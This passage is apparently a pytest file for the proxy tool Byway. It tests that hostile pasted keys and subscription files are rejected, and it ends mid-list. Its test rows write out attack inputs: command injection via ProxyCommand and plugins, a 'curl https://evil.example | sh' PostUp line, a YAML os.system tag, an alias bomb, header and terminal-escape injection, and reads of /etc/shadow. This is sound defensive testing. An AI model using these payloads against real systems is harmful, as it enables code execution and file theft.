"""What a stranger tries by a key, a subscription or a file of another program, and how one sees that it did not
succeed.

A row has what is tried, the text, and what is said of it; of a text that is read all the same, as which relay. For each
of them: what is said is printable and has no secret, the configuration has such relays and nothing else, and the engine
gets the fields of its table, and the server of the key alone.
"""

from __future__ import annotations

import asyncio
import ipaddress
import json
import re
import tomllib
import unicodedata
import zlib
from collections.abc import AsyncIterator, Iterator, Sequence
from functools import partial
from pathlib import Path
from urllib.parse import quote

import pytest

from proxy.config.edit import add_relays
from proxy.config.load import load
from proxy.config.relay_input import read_lines
from proxy.config.relays import Relay
from proxy.config.schema import Settings, SubscriptionConfig
from proxy.config.subscriptions import MEMBERS_MAX, read_entries, with_members
from proxy.features.imports.foreign import Unreadable
from proxy.features.imports.plan import Options, Taken, plan, rows_of
from proxy.features.imports.reading import read_foreign
from proxy.features.keys.binary import Binary
from proxy.features.keys.engine import MihomoEngine
from proxy.features.keys.engine_config import PLACE, Entry, configuration
from proxy.model import Destination, IPAddress, NetworkId, Symptom
from proxy.model.errors import ConfigError, DialError
from proxy.model.feature import Feature
from proxy.net.dialers.key_relay import KeyDialer, KeyRelay, NoEngineDialer
from proxy.net.dialers.registry import Registry
from proxy.net.dialers.tcp import TcpDialer
from proxy.net.dns.relay_lookup import RelayLookup
from proxy.net.dns.resolver import EncryptedFor, Resolver, ResolverOptions
from proxy.net.poller import make_poller
from proxy.setup.guard import public_addresses
from proxy.store.relay_addresses import RelayAddresses
from proxy.terminal.exit_codes import Exit
from proxy.wire.keys.pasted import TEXT_LIMIT
from proxy.wire.keys.reader import read_key
from proxy.wire.keys.values import Key
from proxy.wire.relay_url import RelayUrl
from tests.support.command_line import Byway, Home
from tests.support.control_world import World
from tests.support.dashboard import Browser, dashboard
from tests.support.fetched import Servers, servers
from tests.support.list_source import Answer, endless, page, redirect, zipped
from tests.support.rows import each_row
from tests.wire.keys.made_keys import PBK, UUID, WG_KEY, WG_PEER, b64, vmess_link

__all__ = ["servers"]

SECRET = "hunter2hunter2"
AT = "relay.example:443"
VLESS = f"vless://{UUID}@{AT}"
TROJAN = f"trojan://{SECRET}@{AT}"
SS = f"ss://{b64('aes-128-gcm:' + SECRET)}@{AT}"
EVIL = "socks5h://evil.example:1080"
BEFORE = '# mine\nconfig_version = 1\n\n[[relay]]\nname = "tor"\nurl = "socks5h://127.0.0.1:9050"\n'

# -- what every one of them must leave as it was -----------------------------------------------------------------------

_FIELDS = frozenset(
    (
        "name", "type", "server", "port", "udp", "dialer-proxy", "uuid", "encryption", "flow", "tls", "servername",
        "sni", "client-fingerprint", "alpn", "fingerprint", "ech-opts", "reality-opts", "network", "ws-opts",
        "grpc-opts", "h2-opts", "http-opts", "xhttp-opts", "alterId", "cipher", "password", "plugin", "plugin-opts",
        "obfs", "obfs-password", "udp-relay-mode", "congestion-controller", "disable-sni", "username", "private-key",
        "private-key-passphrase", "host-key", "peers", "ip", "ipv6", "remote-dns-resolve", "reserved", "mtu",
        "persistent-keepalive", "amnezia-wg-option",
    )
)  # fmt: skip
"""What an outbound of the engine may have."""


_OF_PEER = frozenset(("server", "port", "public-key", "pre-shared-key", "allowed-ips"))


def check_engine_gets(key: Key) -> None:
    """Checks what the engine gets of a key: one outbound with fields of the table, to Byway or to a given address."""
    address = "203.0.113.7" if key.protocol.is_over_udp else ""
    made = configuration([Entry("k1", "password", key, address)], 1000, outward_port=2000)
    assert json.loads(json.dumps(made)) == made
    *ways, outbound = made["proxies"]
    assert set(outbound) <= _FIELDS, set(outbound) - _FIELDS
    assert outbound["server"] == (address or PLACE)
    assert outbound.get("dialer-proxy", "") == ("" if address else "to-k1")
    assert [way["server"] for way in ways] == ([] if address else ["127.0.0.1"])
    for peer in outbound.get("peers", ()):
        assert set(peer) <= _OF_PEER, set(peer) - _OF_PEER
        assert (peer["server"], peer["port"]) == (address, key.server.port)
    assert len(outbound.get("peers", ())) == (outbound["type"] == "wireguard")
    assert (
        "PRIVATE KEY" in outbound.get("private-key", "") or outbound["type"] != "ssh" or "private-key" not in outbound
    )
    assert outbound.get("remote-dns-resolve", False) is False
    lines = [*map(str, outbound.get("amnezia-wg-option", {}).values()), *outbound.get("host-key", ())]
    assert all(line.isprintable() for line in lines), lines
    assert made["rules"] == ["IN-USER,k1,k1", "MATCH,REJECT"]
    assert len(made["listeners"]) == 1


def check_said(text: str) -> None:
    """Checks what a person reads: whole lines of visible text, without a secret."""
    for line in re.split("[\n\t]", text):  # a table for other programs has tabs
        assert not [hex(ord(it)) for it in line if unicodedata.category(it)[0] == "C"], repr(line)
    assert SECRET not in text
    assert UUID not in text


def check_relays(settings: Settings) -> None:
    """Checks that a stranger's relays name one server each, and nothing else."""
    for relay in settings.relay:
        parsed = Relay.parse(relay.name, relay.url, allowed=relay.allowed)
        if relay.name == "tor":
            continue
        (hop,) = parsed.hops
        assert isinstance(hop, RelayUrl)
        assert (relay.local, relay.password_cmd, relay.allow_plaintext_credentials) == (False, "", False)
        assert relay.allowed is None or not (relay.allowed.ignore or relay.allowed.pin)
        assert hop.ca is None
        assert re.fullmatch(r"(?:shop/)?[A-Za-z0-9][A-Za-z0-9._-]{0,31}", relay.name), relay.name
        check_said(f"{hop!r} {hop} {relay!r}".replace(SECRET, "") if hop.key is None else f"{hop!r} {hop}")
        if hop.key is not None:
            check_engine_gets(hop.key)


def pasted(folder: Path, text: str) -> str:
    """What `relay add` says of a text."""
    file = folder / "config.toml"
    file.write_text(BEFORE)
    try:
        given = read_lines(text, "pasted text")
        added = add_relays(file, given.relays) if given.relays else []
    except (ConfigError, ValueError) as error:
        assert file.read_text() == BEFORE
        return str(error)
    assert file.read_text().startswith(BEFORE)
    document = tomllib.loads(file.read_text())
    assert set(document) == {"config_version", "relay"}
    assert len(document["relay"]) == 1 + len(added)
    for table in document["relay"]:
        assert set(table) == {"name", "url"}
    check_relays(load(file).settings)
    return "\n".join((*(f"becomes: {it.url} as {it.name}" for it in added), *given.problems))


# -- by a key that a person pastes -------------------------------------------------------------------------------------

LOCAL_HOSTS = (
    "127.0.0.1", "127.1", "0x7f.1", "2130706433", "0177.0.0.1", "１２７.0.0.1", "%31%32%37.0.0.1", "localhost",
    "localhost.",
    "LOCALHOST", "a.localhost", "[::1]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]", "[fe80::1]", "[fc00::1]", "0.0.0.0", "[::]", "169.254.169.254", "168.63.129.16", "10.0.0.1",
    "100.64.0.1", "192.168.1.1", "224.0.0.1", "255.255.255.255",
)  # fmt: skip
"""This computer, the local network, and metadata of clouds, in the spellings that some resolver takes."""

NO_HOSTS = (
    "[fe80::1%25eth0]",
    "[fe80::1%eth0]",
    "127.0.0.1%00.example",
    "relay.example%2F..",
    "-",
    "..",
    "a b",
    "١٢٧.0.0.1.5",
)
LOCAL = "is in the local network; to add it all the same: `byway relay add --local`"
INVALID = "the host or the port of the key is not valid"
UNKNOWN = "is not known to Byway, and without it the connection may be weaker"
SECOND = "it names a second server, whose address Byway does not check"
CONTROL = "the link contains a control character"

KEYS: list[tuple[str, str, str]] = [
    # files and programs
    ("a file with certificates", f"{VLESS}?security=tls&ca=file%3A%2F%2F%2Fetc%2Fpasswd", f"field ca {UNKNOWN}"),
    ("a file with a certificate", f"{TROJAN}?cert=%2Fetc%2Fpasswd", "field cert: it changes which certificates"),
    ("a configuration", f"{TROJAN}?config=%2Fetc%2Fpasswd", f"field config {UNKNOWN}"),
    ("a program as a plugin", f"{SS}?plugin=%2Fbin%2Fsh", "field plugin has a value that is not known"),
    ("a program with arguments", f"{SS}?plugin=%2Fbin%2Fsh%3B-c%3Bid", f"field plugin.-c {UNKNOWN}"),
    ("a file of a plugin", f"{SS}?plugin=v2ray-plugin%3Btls%3Bcert%3D%2Fetc%2Fpasswd", "field plugin.cert: it changes"),
    ("a private key of this computer",
     "ssh://me@relay.example?private-key=%2Fetc%2Fshadow&hk=ssh-ed25519%20AAAAC3NzaC1lZDI1NTE5AAAA",
     "is taken as text, not by the name of a file"),
    ("a path that looks like PEM",
     "ssh://me@relay.example?pk=-----BEGIN%20../../etc/shadow&hk=ssh-ed25519%20AAAAC3NzaC1lZDI1NTE5AAAA",
     "its private key is not one in PEM"),
    ("a local file as a relay", "file:///etc/passwd", 'unknown scheme "file"'),
    ("a script as a relay", "javascript://alert", 'unknown scheme "javascript"'),
    # second servers
    ("a server for downloads",
     f"{VLESS}?type=xhttp&extra=%7B%22downloadSettings%22%3A%7B%22address%22%3A%22192.168.1.1%22%7D%7D",
     f"field extra.downloadSettings: {SECOND}"),
    ("a server for ECH", f"{VLESS}?security=tls&ech=evil.example%2Bhttps%3A%2F%2F192.168.1.1%2Fq",
     "ECH by a name to ask"),
    ("further ports", f"hy2://{SECRET}@relay.example:443,1-65535", "field ports: hop ports"),
    ("further ports by a field", f"hy2://{SECRET}@{AT}?mport=1-65535", "field mport: hop ports"),
    ("a server in a plugin", f"{SS}?v2ray-plugin={b64(json.dumps({'mode': 'websocket', 'address': '127.0.0.1'}))}",
     f"field plugin.address {UNKNOWN}"),
    ("a second relay behind the key, in its path", f"{VLESS}?type=ws&path=/a>{EVIL}", "the key contains >"),
    ("a second relay behind the key, in its name", f"{VLESS}#a>{EVIL}",
     "becomes: vless://relay.example:443 as a-socks5h-evil.example-1080"),
    ("a user that looks like a server", f"trojan://{SECRET}@public.example:443@127.0.0.1:443", LOCAL),
    ("a name that looks like a server", f"trojan://{SECRET}@127.0.0.1:443#@public.example:443", LOCAL),
    ("a server behind a backslash", f"trojan://{SECRET}@public.example:443\\@127.0.0.1:443", LOCAL),
    ("a server behind a path", f"trojan://{SECRET}@public.example:443/@127.0.0.1:443", "has a path behind its port"),
    ("Shadowrocket's form of a local server", f"vmess://{b64(f'auto:{UUID}@127.0.0.1:443')}?obfs=none", LOCAL),
    ("another address in the local network", f"{TROJAN}?alt=127.0.0.1:22", LOCAL),
    ("the same over UDP", f"hy2://{SECRET}@{AT}?alt=192.168.1.1:443", LOCAL),
    ("another port over UDP", f"hy2://{SECRET}@{AT}?alt=b.example:53", "has the port of its server"),
    ("JSON with a local server", vmess_link(add="127.0.0.1"), LOCAL),
    ("JSON with two servers", "vmess://" + b64('{"add": "a.example", "add": "127.0.0.1"}'),
     "the JSON gives a field twice"),
    ("two users", f"{TROJAN}?password={SECRET}x&sni=a&sni=b", "the link gives sni twice"),
    # a weaker connection
    ("no check of the certificate", f"{TROJAN}?allowInsecure=1", "the server's certificate would not be checked"),
    ("the same in another spelling", f"{VLESS}?security=tls&skip-cert-verify=TRUE", "would not be checked"),
    ("the same behind one that is off", f"{VLESS}?security=tls&allowInsecure=0&insecure=1", "contradict each other"),
    ("the same in JSON", vmess_link(tls="tls", verify_cert=False), "would not be checked"),
    ("a cipher that protects nothing", f"ss://{b64('none:x')}@{AT}", "does not protect what is sent"),
    ("REALITY without TLS", f"{VLESS}?security=none&pbk={PBK}", "is not of a key without TLS"),
    ("a field that nobody knows", f"{VLESS}?security=tls&__proto__=1", f"field __proto__ {UNKNOWN}"),
    ("connections in one another", f"{VLESS}?security=tls&mux=1", "(mux) are not supported"),
    # injection into requests, JSON, TOML, lines
    ("a header of the request, by its path", f"{VLESS}?type=ws&path=%2F%0d%0aX-A%3A%20b", "is not printable text"),
    ("a header of the request, by its host", f"{VLESS}?type=ws&host=a%0d%0aX-A%3A%20b", "is not printable text"),
    ("a path that is encoded twice", f"{VLESS}?type=ws&path=%252F%250d%250aX", "field path is not printable text"),
    ("a line in a password", f"ss://{b64('aes-128-gcm:x' + chr(10) + '[safety]')}@{AT}", "is not printable text"),
    ("a line in a user of Shadowrocket", f"vless://{b64(f'auto:{UUID}{chr(10)}x@h.example:443')}?tls=1",
     "field user is not printable text"),
    ("JSON in a password", f"trojan://%22%2C%22server%22%3A%22127.0.0.1@{AT}#J",
     "becomes: trojan://relay.example:443 as J"),
    ("a rule of the engine in a user", f"vless://k1%2CDIRECT@{AT}#J", "becomes: vless://relay.example:443 as J"),
    ("TOML in a password", f"trojan://x%22%5D%0a@{AT}", "is not printable text"),
    ("TOML as it stands", f'trojan://x"""@{AT}#T', "becomes: trojan://relay.example:443 as T"),
    ("TOML in a name", f"{TROJAN}#a%22%0a[safety]%0aallow=[%220.0.0.0/0%22]", "as a-safety-allow-0.0.0.0-0"),
    ("NUL in a path", f"{VLESS}?type=ws&path=%2F%00", "is not printable text"),
    ("NUL in a field without effect", f"{VLESS}?note=\0", CONTROL),
    ("NUL in the name of a server", f"trojan://{SECRET}@relay.example%00.evil.example:443",
     "field host is not printable"),
    ("the terminal's escape in a field without effect", f"{VLESS}?note=\x1b[2J", CONTROL),
    ("the terminal's escape in the name of a field", f"{VLESS}?%1b[2J=1", "(with a name that is not shown)"),
    ("the terminal's escape in a scheme", f"vless\x1b[2J://{UUID}@{AT}", "an invisible character (U+001B)"),
    ("half a character", f"{TROJAN}?sni=\ud800", "is not a link of at most"),
    ("half a character in JSON",
     f"vmess://{b64(f'auto:{UUID}@{AT}')}?obfs=websocket&obfsParam=%7B%22Host%22:%22\\udc00%22%7D",
     "field obfsParam is not printable text"),
    ("half a character, encoded", f"{TROJAN}?sni=%ed%a0%80", "is not percent-encoded UTF-8"),
    # names
    ("a name with the terminal's escapes", f"{TROJAN}#%1b%5b2J%07a", "as 2Ja"),
    ("a name that turns the line around", f"{TROJAN}#a%e2%80%ae%e2%81%a6txt.exe", "as atxt.exe"),
    ("a name of HTML", f"{TROJAN}#%3Cscript%3Ealert(1)%3C/script%3E", "as script-alert-1-script"),
    ("a name that is a path", f"{TROJAN}#..%2F..%2Fetc%2Fpasswd", "as etc-passwd"),
    ("a name that looks like another", f"{TROJAN}#t%D0%BEr", "as t-r"),
    ("the name of another relay", f"{TROJAN}#tor", "as tor-2"),
    ("a name that is an action", f"{TROJAN}#DIRECT", "as DIRECT-relay"),
    ("a name of a million letters", f"{TROJAN}#{'a' * 15_000}", f"as {'a' * 28}"),
    ("a server's name that looks like another", f"trojan://{SECRET}@g%D0%BE%D0%BEgle.example:443",
     "xn--ggle-55da.example"),
    # sizes
    ("a link of a megabyte", f"{TROJAN}?sni={'a' * 1_000_000}", "is not a link of at most 16384 characters"),
    ("a thousand fields", f"{VLESS}?" + "&".join(f"a{number}=1" for number in range(1000)),
     "a link has at most 64 fields"),
    ("a thousand options of a plugin", f"{SS}?plugin=v2ray-plugin" + "%3Ba" * 1000, "at most 32 options"),
    ("JSON in itself", "vmess://" + b64('{"a":' * 1500 + "1" + "}" * 1500), "in each other"),
    ("maps in each other", "vmess://" + b64('{"add": "a", "x": ' + '{"a":' * 20 + "1" + "}" * 20 + "}"),
     "too many in each other"),
    ("a number that is none", "vmess://" + b64('{"port": NaN}'), "a number that is none"),
]  # fmt: skip


def ports() -> Iterator[tuple[str, str, str]]:
    for port in ("0", "65536", "-1", "00443", "443x", "٤٤٣", "4 43", "99999999999999999999"):
        for link in (f"trojan://{SECRET}@relay.example:{port}", f"hy2://{SECRET}@relay.example:{port}"):
            yield f"port {port!a} of {link.partition(':')[0]}", link, "(?:not valid|hop ports)"


def hosts() -> Iterator[tuple[str, str, str]]:
    links = (
        "trojan://x@{}:443",
        "hy2://x@{}:443",
        f"tuic://{UUID}:x@{{}}:443",
        f"ss://{b64('aes-128-gcm:x')}@{{}}:443",
    )
    for host in LOCAL_HOSTS:
        for link in links:
            yield f"{host} by {link.partition(':')[0]}", link.format(host), re.escape(LOCAL)
    for host in NO_HOSTS:
        yield f"{host} as a server", links[1].format(host), "(?:not valid|not printable)"


@each_row(("tries", "key", "said"), [*((tries, key, re.escape(said)) for tries, key, said in KEYS), *ports(), *hosts()])
def test_a_key_that_a_person_pastes(tmp_path: Path, tries: str, key: str, said: str) -> None:
    found = pasted(tmp_path, key)
    assert re.search(said, found), f"{tries}: {found}"
    check_said(found)


# -- by the file of a subscription -------------------------------------------------------------------------------------


def fetched(text: str) -> str:
    """What is said of each entry of a subscription's file: the relay that it is, or why it is none."""
    try:
        entries = read_entries(text)
    except ConfigError as error:
        return error.problems[0]
    shop = SubscriptionConfig("shop", "https://shop.example/sub")
    settings = with_members(Settings(subscription=(shop,)), lambda _: (entries, {}))
    check_relays(settings)
    taken = [relay for relay in settings.relay if relay.enabled]
    assert all(relay.public_only for relay in taken)
    assert [group.name for group in settings.group] == ["shop"]
    assert set(settings.group[0].relays) == {relay.name for relay in taken}
    shown = [f"becomes: {Relay.parse(relay.name, relay.url).hops[0]} as {relay.name}" for relay in taken]
    return "\n".join((*shown, *(f"{entry.label}: {entry.why}" for entry in entries if entry.why)))


def clash(**fields: object) -> str:
    entry = {"name": "K", "type": "trojan", "server": "k.example", "port": 443, "password": SECRET} | fields
    return f"proxies:\n  - {json.dumps(entry)}\n"


def bomb(levels: int = 30) -> str:
    """YAML of a kilobyte whose aliases are a billion entries."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]" for level in range(1, levels)]
    return "\n".join((*lines, f"proxies: *a{levels - 1}"))


NO_PLACE = "is no public place: a subscription may name no relay there"
FILES: list[tuple[str, str, str]] = [
    ("a file of this computer", "https://de.example:443?ca=/etc/passwd#A", "it names a file of this computer"),
    ("the same by its URL", "file:///etc/passwd\nfile:///etc/shadow", "it is neither a key nor a relay"),
    ("an addon", "addon://evil\naddon://evil2", "it is neither a key nor a relay"),
    ("a command", json.dumps({"outbounds": [{"type": "socks", "tag": "A", "server": "h.example", "server_port": 1,
                                             "password_cmd": "id"}]}), f"field password_cmd {UNKNOWN}"),
    ("another address of this computer", "https://de.example:443?alt=127.0.0.1:22#A", NO_PLACE),
    ("a chain", f"{TROJAN}?type=ws&path=/a>{EVIL}", "it is a chain"),
    ("another address of a key", f"{TROJAN}?alt=192.0.2.9:443#A", f"field alt {UNKNOWN}"),
    ("a chain of names", f"{EVIL}>tor#A\n{EVIL}>vps#B", "it is a chain"),
    ("another proxy on the way", clash(**{"dialer-proxy": "tor"}), f"field dialer-proxy: {SECOND}"),
    ("no check of the certificate", clash(**{"skip-cert-verify": True}), "would not be checked"),
    ("a file in a map", clash(ca="/etc/passwd"), "field ca: it names a file"),
    ("rules, a script, a controller", clash() + "rules: ['MATCH,DIRECT']\nscript: {path: /bin/sh}\n"
     "external-controller: 0.0.0.0:9090\ntun: {enable: true}\n", "becomes: trojan://k.example:443 as shop/K"),
    ("a provider that names a file", "proxy-providers: {p: {type: file, path: /etc/passwd}}\nproxies: []\n",
     "it has no key"),
    ("an alias bomb", bomb(), "the YAML has an anchor (&) or an alias (*)"),
    ("a merge bomb", "a: &a {x: 1}\nproxies: [{<<: *a}]\n", "the YAML has an anchor (&) or an alias (*)"),
    ("a merge", "proxies:\n  - {<<: {type: ss}}\n", "the YAML merges maps (<<)"),
    ("an object of Python", "proxies:\n  - !!python/object/apply:os.system ['id']\n", "the YAML has a tag (!)"),
    ("an object of another language", "proxies:\n  - {type: !ruby/object:Gem ss}\n", "the YAML has a tag (!)"),
    ("two documents", "---\nproxies: []\n---\nproxies: []\n", "more than one document"),
    ("a field twice", "proxies:\n  - {type: ss, type: trojan}\n", "the YAML gives a field twice"),
    ("lists in each other", "proxies: " + "[" * 40 + "]" * 40, "more than 32 lists and maps in each other"),
    ("as many as fit", "proxies: " + "[" * (TEXT_LIMIT - 20), "it is not valid YAML"),
    ("JSON in itself", '{"outbounds": ' + "[" * 100_000 + "]" * 100_000 + "}", "too many brackets in each other"),
    ("more keys than anybody has", "trojan://x@h.example:443\n" * 2001, "2001 keys, and Byway takes at most 2000"),
    ("more relays than a group has", "".join(f"trojan://x@h{n}.example:443#N\n" for n in range(MEMBERS_MAX + 1)),
     f"only the first {MEMBERS_MAX} relays of a subscription are used"),
    ("a megabyte and a byte", "#" * (TEXT_LIMIT + 1), "it is not text of at most 1024 KiB"),
    ("NUL", clash(server="k.example\0.evil.example"), "field server is not printable text"),
    ("control characters in YAML", "proxies: \x01\n", "it is not valid YAML"),
    ("half a character in JSON",
     '{"outbounds": [{"type": "trojan", "tag": "K", "server": "k.example", "server_port": 443, '
     '"password": "\\ud800"}]}', "field password is not printable text"),
    ("half a character in a name", '{"outbounds": [{"type": "trojan", "tag": "\\ud800", "server": "k.example", '
     '"server_port": 443, "password": "x"}]}', "as shop/entry-1"),
    ("a page of HTML", "<html><script>alert(1)</script></html>", "it is of no notation of keys that Byway knows"),
    ("the name of another group", clash(name="../../shop"), "becomes: trojan://k.example:443 as shop/shop"),
    ("names of HTML and of the terminal", clash(name="<script>\u202e\x1b[2J"), "as shop/script-2J"),
    ("one name for many", "trojan://x@a.example:443#A\ntrojan://y@b.example:443#A\n", "as shop/A-2"),
    ("headers in a request", clash(network="ws", **{"ws-opts": {"headers": {"Host": "a\r\nX-A: b"}}}),
     "is not printable text"),
    ("a name of a header", clash(network="ws", **{"ws-opts": {"headers": {"X A\r\n": "b"}}}),
     "is not a map of headers"),
    ("a type that is a path", clash(type="../../x"), "type (with a name that is not shown) is not supported"),
    ("a program", json.dumps({"outbounds": [{"type": "tor", "tag": "t", "executable_path": "/bin/sh",
     "server_port": 1}]}),
     "type tor is not supported"),
    ("commands of WireGuard's own program", f"[Interface]\nPrivateKey = {b64('x' * 32)}\nAddress = 10.0.0.2\n"
     "PostUp = curl https://evil.example | sh\n[Peer]\nPublicKey = x\nEndpoint = 127.0.0.1:51820\n",
     "field Peer.PublicKey"),
]  # fmt: skip

PRIVATE = ("router", "nas.lan", "x.internal", "printer.local", "x.home.arpa")


def places() -> Iterator[tuple[str, str, str]]:
    """Relays and keys on this computer and in the local network."""
    spelled = [host for host in LOCAL_HOSTS if "%" not in host]
    for host in (*spelled, *PRIVATE):
        for link in (f"socks5h://{host}:1080", f"https://{host}:443", f"trojan://x@{host}:443", f"hy2://x@{host}:443",
                     f"tuic://{UUID}:x@{host}:443"):  # fmt: skip
            yield f"{host} by {link.partition(':')[0]}", f"{link}#A\n{link}#B", re.escape(NO_PLACE)


@each_row(
    ("tries", "file", "said"),
    [*((tries, file, re.escape(said) if "|" not in said else said) for tries, file, said in FILES), *places()],
)
def test_the_file_of_a_subscription(tries: str, file: str, said: str) -> None:
    found = fetched(file)
    assert re.search(said, found), f"{tries}: {found[:500]}"
    check_said(found)
    becomes = bool(re.search(r"\bas shop/", said.replace("\\", ""))) or "only the first" in said.replace("\\", "")
    assert ("becomes: " in found) is becomes, found[:500]


# -- by WireGuard, AmneziaWG and SSH, and by alt= ----------------------------------------------------------------------

HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"
SSH = f"ssh://me:{SECRET}@{AT}?host-key={quote(HOST_KEY)}"
WG = f"wg://{quote(WG_KEY, safe='')}@{AT}?publickey={quote(WG_PEER, safe='')}&address=10.0.0.2"
AWG = f"{WG}&jc=4&jmin=40&jmax=70"
TWO = f"[Peer]\nPublicKey = {WG_PEER}\nEndpoint = 127.0.0.1:51820"
ONLY_PEM = "a private key of SSH is taken as text, not by the name of a file"
ALT = "alt= takes HOST:PORT, another name or address of the same relay"


def conf(interface: str = "", peer: str = "", at: str = AT) -> str:
    """A configuration of WireGuard with further lines in its two sections."""
    return (
        f"[Interface]\nPrivateKey = {WG_KEY}\nAddress = 10.0.0.2/32\n{interface}\n"
        f"[Peer]\nPublicKey = {WG_PEER}\nEndpoint = {at}\n{peer}\n"
    )


def tunnel(**fields: object) -> str:
    """A Clash configuration with a key of WireGuard."""
    return of_clash({"type": "wireguard", "private-key": WG_KEY, "public-key": WG_PEER, "ip": "10.0.0.2"}, fields)


def shell(**fields: object) -> str:
    """A Clash configuration with a key of SSH."""
    return of_clash({"type": "ssh", "username": "me", "password": SECRET, "host-key": [HOST_KEY]}, fields)


def of_clash(entry: dict[str, object], fields: dict[str, object]) -> str:
    """A Clash configuration with one key. In the names of `fields` _ stands for -."""
    named = {name.replace("_", "-"): value for name, value in fields.items()}
    return f"proxies:\n  - {json.dumps({'name': 'K', 'server': 'k.example', 'port': 443} | entry | named)}\n"


def peer(server: str) -> dict[str, object]:
    return {"server": server, "port": 443, "public-key": WG_PEER}


TUNNEL_LINKS: list[tuple[str, str, str]] = [
    # second servers
    ("a server of its own", f"{WG}&endpoint=127.0.0.1:51820", f"field endpoint {UNKNOWN}"),
    ("a peer", f"{WG}&peer.endpoint=127.0.0.1:51820", f"field peer.endpoint {UNKNOWN}"),
    ("peers", f"{WG}&peers=127.0.0.1", f"field peers {UNKNOWN}"),
    ("a name server in the local network", f"{WG}&dns=127.0.0.1#W", "becomes: wireguard://relay.example:443 as W"),
    ("another proxy on the way", f"{WG}&dialer-proxy=tor", f"field dialer-proxy {UNKNOWN}"),
    ("the same by ssh", f"{SSH}&dialer-proxy=tor", f"field dialer-proxy {UNKNOWN}"),
    ("a host to jump over", f"{SSH}&ProxyJump=evil.example", f"field ProxyJump {UNKNOWN}"),
    # commands and files
    ("a command of WireGuard's own program", f"{WG}&postup=id", f"field postup {UNKNOWN}"),
    ("a table of routes", f"{WG}&table=auto", f"field table {UNKNOWN}"),
    ("a port to listen on", f"{WG}&listenport=53", f"field listenport {UNKNOWN}"),
    ("a file in place of a packet", f"{AWG}&i1=file%3A%2F%2F%2Fetc%2Fpasswd", "field i1 is not a packet"),
    ("a program on the way", f"{SSH}&proxycommand=sh%20-c%20id", f"field proxycommand {UNKNOWN}"),
    ("the same as ssh spells it", f"{SSH}&ProxyCommand=id", f"field ProxyCommand {UNKNOWN}"),
    ("the same as an option", f"{SSH}&o=ProxyCommand%3Did", f"field o {UNKNOWN}"),
    ("the same as a host", f"ssh://me:{SECRET}@-oProxyCommand=id:22?host-key={quote(HOST_KEY)}", INVALID),
    ("the same as a user", SSH.replace("me:", "-oProxyCommand=id:") + "#S", "becomes: ssh://relay.example:443 as S"),
    ("a command here", f"{SSH}&LocalCommand=id", f"field LocalCommand {UNKNOWN}"),
    ("a command there", f"{SSH}&RemoteCommand=id", f"field RemoteCommand {UNKNOWN}"),
    ("a file with a private key", f"{SSH}&IdentityFile=/etc/shadow", f"field IdentityFile {UNKNOWN}"),
    ("the same in its own field", f"{SSH}&pk=/etc/shadow", ONLY_PEM),
    ("the same in the home folder", f"{SSH}&pk=~/.ssh/id_rsa", ONLY_PEM),
    ("the same by its URL", f"{SSH}&pk=file%3A%2F%2F%2Fetc%2Fshadow", ONLY_PEM),
    ("the same in a field of sing-box", f"{SSH}&private_key_path=/etc/shadow", f"field private_key_path {UNKNOWN}"),
    ("a file with host keys", f"ssh://me:x@{AT}?host-key=/etc/ssh/known_hosts", "is not a list of host keys"),
    ("a command before a host key", f"ssh://me:x@{AT}?host-key=command%3D%22id%22%20{quote(HOST_KEY)}",
     "is not a list of host keys"),
    # a weaker connection
    ("no host key", f"ssh://me:x@{AT}", "it has no host key of its server"),
    ("any host key", f"ssh://me:x@{AT}?host-key=*", "is not a list of host keys"),
    ("no check of host keys", f"{SSH}&StrictHostKeyChecking=no", f"field StrictHostKeyChecking {UNKNOWN}"),
    ("no known hosts", f"{SSH}&known_hosts=/dev/null", f"field known_hosts {UNKNOWN}"),
    ("a shared key that is none", f"{WG}&presharedkey=x", "field presharedkey is not base64 of 32 bytes"),
    # injection
    ("a line in a packet", f"{AWG}&i1=%3Cb%200x00%3E%0aendpoint=127.0.0.1:1", "field i1 is not printable text"),
    ("a line in a type", f"{AWG}&h1=1%0aendpoint=127.0.0.1:1", "field h1 is not printable text"),
    ("a line in a list of addresses", f"{WG}&allowedips=0.0.0.0/0%0aendpoint=127.0.0.1:1", "is not printable text"),
    ("a line in a user", SSH.replace("me:", "me%0aProxyCommand%20id:"), "field user is not printable text"),
    ("a line in a host key", f"{SSH}%0a{quote(HOST_KEY)}", "field host-key is not printable text"),
    ("NUL in a private key", f"{SSH}&pk=-----BEGIN%20PRIVATE%20KEY-----%00", "field pk is not printable text"),
    # sizes
    ("a flood before each handshake", f"{WG}&jc=100000&jmin=1280&jmax=1280", "field jc is not a number from 0 to 128"),
    ("a packet of a gigabyte", f"{AWG}&i1=%3Cr%20999999999%3E", "random parts of at most 999 bytes"),
    ("a size below nothing", f"{AWG}&s1=-1", "field s1 is not a number from 0 to 1280"),
    ("a type beyond its field", f"{AWG}&h1=5-99999999999", "field h1 is not a number or a range"),
    ("types that are one", f"{AWG}&h1=1-9&h2=5", "the types of packets (H1 to H4) are not four different ones"),
    ("a packet at each moment", f"{WG}&keepalive=0.0001", "field keepalive is not a number from 0 to 65535"),
    ("three hundred networks", f"{WG}&allowedips=" + ",".join(["10.0.0.0/8"] * 300), "a list of at most 256 addresses"),
    # other addresses
    ("a file as another address", f"{TROJAN}?alt=file%3A%2F%2F%2Fetc%2Fpasswd", ALT),
    ("a relay as another address", f"{TROJAN}?alt=socks5h://b.example:1", ALT),
    ("ports as another address", f"{TROJAN}?alt=b.example:1-65535", ALT),
    ("a user in another address", f"{TROJAN}?alt=b.example:443@127.0.0.1:443", ALT),
    ("a path in another address", f"{TROJAN}?alt=b.example:443/x", ALT),
    ("nothing as another address", f"{TROJAN}?alt=", ALT),
    ("NUL in another address", f"{TROJAN}?alt=b.example%00.evil.example:443", ALT),
    ("a line in another address", f"{TROJAN}?alt=b.example:443%0aX", ALT),
    ("the terminal's escape in another address", f"{TROJAN}?alt=b.example%1b[2J:443", ALT),
    ("HTML in another address", f"{TROJAN}?alt=%3Cscript%3Ealert(1)%3C/script%3E:443", ALT),
    ("a chain behind another address", f"{TROJAN}?alt=b.example:443>{EVIL}", "the key contains >"),
    ("the name of the field in digits", f"{TROJAN}?%61lt=127.0.0.1:22", f"(with a name that is not shown) {UNKNOWN}"),
